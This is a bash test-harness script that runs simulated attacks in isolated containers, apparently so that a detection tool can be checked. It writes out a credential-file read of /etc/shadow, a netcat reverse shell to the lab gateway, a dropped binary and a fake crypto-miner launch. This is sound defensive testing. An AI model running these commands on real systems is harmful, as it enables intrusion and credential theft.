# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
# Attacks, each in a container of its own. Nothing leaves the lab's network.

LAB_ATTACKS='shadow revshell drop miner'

# lab_attack NAME [CONTAINER [IMAGE]]
lab_attack() {
	local name=${1:-} container=${2:-attack-${1:-}} image=${3:-lab/base:1}
	lab_image "$(basename "${image%:*}")"
	docker rm -f "$container" >/dev/null 2>&1
	case $name in
	shadow) # reads the password hashes
		docker run --rm --name "$container" "$image" sh -c 'cat /etc/shadow >/dev/null; sleep 0.2'
		;;
	revshell) # a shell whose input and output is a connection to the attacker
		lab_listen 4444 "$LAB/revshell.out"
		docker run --rm --name "$container" "$image" \
			sh -c "nc $LAB_GATEWAY 4444 -e /bin/sh & sleep 1; kill \$!"
		lab_stop_listener "$LAB/listener-4444.pid"
		grep -q uid= "$LAB/revshell.out" || lab_die 'the reverse shell did not answer'
		;;
	drop) # runs a program that was not in the image
		docker run --rm --name "$container" "$image" \
			sh -c 'cp /bin/busybox /tmp/sleep; /tmp/sleep 0.1; rm /tmp/sleep'
		;;
	miner) # a miner's name and arguments
		docker run --rm --name "$container" "$image" \
			sh -c 'cp /bin/busybox /tmp/xmrig; exec /tmp/xmrig sleep 0.2 stratum+tcp://127.0.0.1:3333' \
			2>/dev/null
		true # busybox knows no applet of that name: that it was started is all that counts
		;;
	*) lab_die "no attack ${name:-?}: $LAB_ATTACKS" ;;
	esac
}
